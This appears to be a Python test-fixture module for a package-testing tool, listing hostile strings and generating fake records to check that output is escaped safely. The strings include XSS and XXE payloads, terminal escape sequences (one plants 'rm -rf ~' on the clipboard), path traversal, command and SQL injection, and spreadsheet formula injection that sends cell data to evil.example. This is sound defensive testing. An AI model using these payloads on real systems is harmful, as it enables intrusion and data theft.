"""Text by which an attacker tries to make a page, feed, terminal, path or spreadsheet act; and records full of it.

Any of it that runs in a browser sets the global `OWNED`, opens a dialog or requests a host in `.example`.
"""

import unicodedata
from collections.abc import Iterator, Mapping
from dataclasses import replace
from typing import Final

from ppp.model.canonical import sha256_hex
from ppp.model.record import Blame, DistributionFile, Installed, Network, Outcome, Phase, Record, Result
from ppp.model.release import Release

#: The global variable that every script among the strings sets.
OWNED: Final = "pppOwned"
_SCRIPT: Final = f"globalThis.{OWNED}=1;alert(1)"
HUGE_LENGTH: Final = 10_000_000
DAY: Final = 1_714_003_200
NODE: Final = "ab" * 32

#: By a name that is also a valid package name.
HOSTILE_STRINGS: Final[Mapping[str, str]] = {
    # ---- pages
    "script": f"<script>{_SCRIPT}</script>",
    "script-src": "<script src=//evil.example/x.js></script>",
    "script-cased": f"<ScRiPt/x>{_SCRIPT}</sCrIpT >",
    "script-split": f"<scr<script>ipt>{_SCRIPT}</scr</script>ipt>",
    "image": f'<img src=x onerror="{_SCRIPT}">',
    "svg": f"<svg onload={_SCRIPT}><animate onbegin={_SCRIPT} attributeName=x></svg>",
    "frame": f"<iframe srcdoc='<script>parent.{OWNED}=1</script>'></iframe><object data=//evil.example>",
    "form": "<form action=//evil.example><input name=x autofocus><button>",
    "base": '<base href="//evil.example/"><meta http-equiv=refresh content="0;url=//evil.example">',
    "attribute-double": f'" onmouseover="{_SCRIPT}" autofocus onfocus="{_SCRIPT}" x="',
    "attribute-single": f"' onmouseover='{_SCRIPT}' style='position:fixed;inset:0' x='",
    "attribute-none": f" onfocus={_SCRIPT} tabindex=1 autofocus ",
    "backtick": f"`onload={_SCRIPT}` and `<b>code</b>`",
    "javascript": f"javascript:{_SCRIPT}//",
    "javascript-hidden": f"java\tscript\n:{_SCRIPT}",
    "data-address": "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "title": f"</title><script>{_SCRIPT}</script><title>",
    "pre": f"</pre></code></td></table></main><script>{_SCRIPT}</script>",
    "textarea": f"</textarea></style></noscript><img src=x onerror={_SCRIPT}>",
    "cdata": f"]]><script>{_SCRIPT}</script><![CDATA[",
    "comment": f"--><script>{_SCRIPT}</script><!-- --!> <!-->",
    "doctype": '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
    "entities": f"&lt;script&gt;{_SCRIPT}&lt;/script&gt; &#60;b&#62; &amp;amp; &nbsp &",
    "css": "</style><style>*{background:url(//evil.example/x)}@import '//evil.example/y';</style>",
    "css-expression": "} body{visibility:hidden} x{width:expression(alert(1))",
    "template": "{{7*7}} {% raw %} {# c #} ${7*7} #{7*7} <%= 7*7 %> {{ self.__init__.__globals__ }}",
    "markdown": f"[here](javascript:{_SCRIPT}) ![x](//evil.example/x.png) <https://evil.example> **bold**",
    # ---- invisible characters, and those that change the direction of text
    "override": "\u202egnp.exe\u202c \u202dabc\u202c",
    "isolates": "\u2066a\u2067b\u2068c\u2069 \u061c\u200e\u200f",
    "embeddings": "\u202aa\u202bb\u202c",
    "zero-width": "pay\u200bp\u200cal\u200d\u2060\ufeff\u00ad\u180e",
    "tags": "\U000e0001\U000e0041\U000e007f hidden",
    "unassigned": "\u0378\ufffe\uffff\U0010ffff\ue000",
    "separators": 'x\u2028y\u2029z"\u2028;alert(1)//',
    "homoglyphs": "раураl.example ｓｃｒｉｐｔ ⁄ ∕ ｆｕｌｌ",  # noqa: RUF001 - the point of it
    "stacked": "Z̸̡͎̗̆͂a̷̧̡l̴̨g̵̢o" * 5,
    # ---- terminals
    "nul": "a\x00b",
    "c0": "".join(map(chr, range(1, 32))) + "\x7f",
    "c1": "".join(map(chr, range(0x80, 0xA0))),
    "colours": "\x1b[31mred\x1b[0m\x1b[8mhidden\x1b[28m",
    "clear": "\x1b[2J\x1b[H\x1b[3J\x1bc",
    "up": "\x1b[1A\x1b[2K\r✓ PASS    other==1.0 in py312-slim",
    "title-sequence": "\x1b]0;owned\x07 \x1b]2;owned\x1b\\ \x1b]0;never ended",
    "hyperlink": "\x1b]8;;https://evil.example/\x1b\\pypi\x1b]8;;\x1b\\",
    "clipboard": "\x1b]52;c;cm0gLXJmIH4=\x07",
    "device-control": "\x1bP$q q\x1b\\\x1b_x\x1b\\\x1b^x\x1b\\\x1b[5n\x1b[c\x1b[21t",
    "eight-bit": "\x9b31mred\x9b0m \x9d0;owned\x9c \x90q\x9c",
    "nested": "\x1b\x1b[31m[2J \x1b[\x1b[31m31m",
    "backspaces": "FAIL\b\b\b\bPASS\r\x0b\x0c",
    "rich": "[bold red]x[/] [link=https://evil.example]y[/link] [/] :skull: \\[",
    "forged": "x\nppp: all is well\n✓ PASS    other==1.0\r\nholds  statement.json: fine",
    # ---- paths
    "traversal": "../../../../etc/passwd",
    "traversal-windows": "..\\..\\windows\\system32",
    "absolute": "/etc/passwd",
    "drive": "C:\\Windows\\con.txt",
    "share": "\\\\evil.example\\share",
    "device": "CON",
    "device-stream": "aux.html:stream::$DATA",
    "percent": "%2e%2e%2f%00%0d%0aSet-Cookie:%20x=1 %u202e",
    "dots": "....//....// . .. ...",
    "flags": "--output=/etc/passwd -rf $(touch owned) `touch owned` ; touch owned | sh & \\",
    # ---- databases, spreadsheets, data
    "sql": "'; DROP TABLE records; -- \" OR 1=1 /*",
    "formula": '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "formula-plus": "+1+cmd|' /C calc'!A0",
    "formula-minus": "-2+3+cmd|' /C calc'!A0",
    "formula-at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula-tab": "\t=1+1",
    "formula-return": "\r=1+1",
    "formula-line": "\n=1+1",
    "formula-wide": "\uff1d1\uff0b1",
    "formula-after-semicolon": 'x;=1+1;"=1+1',
    "json": '"},{"package":"other","result":"PASS',
    "yaml": "!!python/object/apply:os.system ['touch owned']",
    "format": "%s%n%x {0.__class__} %(x)s",
    "prototype": "__proto__",
    "constructor": "constructor",
    "braces": "}" * 100 + "{" * 100 + "[" * 100,
    "blank": " \t \n ",
    "long-word": "W" * 5_000,
    "wide": "\U0001d54f" * 600,
}
#: Lone surrogates, which UTF-8 cannot encode; they come from JSON escapes and file names.
SURROGATES: Final[Mapping[str, str]] = {
    "high": "a\ud800b",
    "low": "a\udfffb",
    "turned": "\udc00\ud800",
    "escaped-byte": "\udcff",
}

#: Besides the characters that Unicode classes as control or format: those that end a line, change direction, or hide.
_INVISIBLE: Final = frozenset("\u061c\u180e\u200b\u2028\u2029\u2060\ufeff") | set(map(chr, range(0x200C, 0x2010)))


def unsafe_characters(text: str, *, keep: str = "\n") -> set[str]:
    """Return the characters of a text that control a terminal or mislead a reader, except those in `keep`."""
    return {c for c in text if c not in keep and (c in _INVISIBLE or unicodedata.category(c)[0] == "C")}


def hostile_records(strings: Mapping[str, str], *, node: str = NODE) -> Iterator[tuple[Record, str]]:
    """Yield records and logs: for each string a package of its name, in whose records every free text is the string.

    Its newer release passes in one environment and fails in two, and its older release passes in one of these, so it
    is in most kinds of listing. Fields are cut to the lengths that a peer may send.
    """
    for place, (name, word) in enumerate(strings.items()):
        log = f"{word}\n{word}"
        passed = Record(
            release=Release(package=name, version="1.0"),
            environment="py312-slim",
            result=Result.PASS,
            outcomes=(Outcome.PASS, Outcome.PASS, Outcome.PASS, Outcome.PASS),
            observed_at=DAY + 60 * place,
            node=node,
            arch="x86_64",
            python="3.12.1",
            image_digest=f"sha256:{'0' * 64}",
            standin=False,
            network=Network.GATEWAY,
            pip_version="26.0.1",
            file=DistributionFile(filename=f"{name}-1.0.tar.gz", sha256=sha256_hex(name.encode()), size=1234),
            imports=(word[:255], f"x{word}"[:255]),
            installed=(Installed(name=word[:214], version=word[:128], sha256=None),),
            duration_ms=dict.fromkeys(Phase, 10),
            cause=None,
            blame=None,
            detail=None,
            log_sha256=sha256_hex(log.encode()),
        )
        yield passed, log
        newer = replace(passed, release=Release(package=name, version="1.1"), observed_at=passed.observed_at + 90_000)
        yield replace(newer, environment="py39-slim", python="3.9.1"), log
        failed = replace(
            newer,
            result=Result.FAIL,
            outcomes=(Outcome.PASS, Outcome.PASS, Outcome.PASS, Outcome.FAIL),
            cause="import-error",
            blame=Blame.PACKAGE,
            detail=word if len(word) >= HUGE_LENGTH else word[:500],
        )
        yield failed, log
        yield replace(failed, environment="py312-alpine", standin=True, blame=Blame.DEPENDENCY), log
